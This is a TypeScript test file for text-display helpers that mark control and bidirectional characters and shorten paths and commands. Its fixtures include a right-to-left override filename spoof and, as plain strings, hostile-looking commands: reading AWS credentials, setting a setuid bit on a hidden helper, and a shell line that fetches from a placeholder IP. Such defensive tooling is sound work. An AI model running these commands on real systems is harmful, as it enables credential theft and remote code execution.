import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { command, count, label, middle, path, pieces, plural, visible } from "./text";

const dangerous = "a\u202egnp.exe\u001b[31m\u0007\u200b\u2066\ufeff\u2028z";

describe("pieces", () => {
  it("keeps every character and marks the dangerous ones", () => {
    const all = pieces(dangerous);
    expect(all.map((p) => p.text).join("")).toBe(dangerous);
    expect(all.filter((p) => p.mark !== "").map((p) => p.mark)).toEqual([
      "RLO",
      "ESC",
      "BEL",
      "ZWSP",
      "LRI",
      "BOM",
      "LINE SEP",
    ]);
  });

  it("leaves ordinary text in one piece, astral characters and umlauts included", () => {
    expect(pieces("Grüße 🧶 /tmp/x")).toEqual([{ text: "Grüße 🧶 /tmp/x", mark: "" }]);
    expect(pieces("")).toEqual([]);
  });

  it("loses nothing and shows no control, bidirectional or zero-width character as itself", () => {
    const hostile = fc.array(
      fc.oneof(
        fc.string({ unit: "binary", maxLength: 8 }),
        fc.constantFrom("\u202e", "\u2067", "\u200d", "\u0000", "\u009b"),
      ),
      { maxLength: 12 },
    );
    fc.assert(
      fc.property(hostile, (parts) => {
        const text = parts.join("");
        const all = pieces(text);
        expect(all.map((p) => p.text).join("")).toBe(text);
        const plain = all.filter((p) => p.mark === "").map((p) => p.text);
        expect(plain.join("")).not.toMatch(/[\p{Cc}\p{Bidi_Control}\u200b-\u200d\u2028\u2029\ufeff]/u);
        expect(all.every((p) => p.mark === "" || [...p.text].length === 1)).toBe(true);
      }),
    );
  });

  it("marks halves of surrogate pairs", () => {
    expect(pieces("a\ud800b").map((p) => p.mark)).toEqual(["", "BROKEN", ""]);
  });
});

describe("visible", () => {
  it("writes marks out", () => {
    expect(visible("x\u202ey\n")).toBe("x[RLO]y[LF]");
  });
});

describe("shortening", () => {
  it("keeps head and tail", () => {
    expect(middle("abcdefghijkl", 7)).toBe("ab…ijkl");
    expect(middle("short", 7)).toBe("short");
  });

  it("drops folders from the middle of a path and keeps its last part", () => {
    expect(path("/srv/www/.aws/credentials", 19)).toBe("/srv/…/credentials");
    expect(path("/etc/cron.d/updater", 19)).toBe("/etc/cron.d/updater");
    expect(path("/usr/lib/x86_64-linux-gnu/php-fpm8.2", 20)).toBe("/usr/…/php-fpm8.2");
    expect(path("/a-very-long-file-name-without-folders", 12)).toHaveLength(12);
  });

  it("keeps the program of a command and what it works on", () => {
    expect(command("cat /home/deploy/.aws/credentials", 20)).toBe("cat … credentials");
    expect(command("chmod 4755 /usr/lib/.helper", 20)).toBe("chmod 4755 … .helper");
    expect(command('sh -c "id; uname -a; fetch http://198.51.100.23/u"', 20)).toBe('sh -c "id; uname … u');
    expect(command("ps aux", 20)).toBe("ps aux");
    expect(command("averyveryverylongprogramname x", 12)).toBe("averyveryve…");
  });

  it("never exceeds its limit", () => {
    fc.assert(
      fc.property(fc.string(), fc.integer({ min: 3, max: 60 }), (text, max) => {
        expect(Array.from(middle(text, max)).length).toBeLessThanOrEqual(Math.max(max, 0));
        expect(Array.from(label(`/${text}`, max)).length).toBeLessThanOrEqual(max);
      }),
    );
  });
});

describe("numbers", () => {
  it("groups digits and agrees with its word", () => {
    expect(count(1234567)).toBe("1,234,567");
    expect(plural(1, "event")).toBe("1 event");
    expect(plural(0, "entry", "entries")).toBe("0 entries");
  });
});
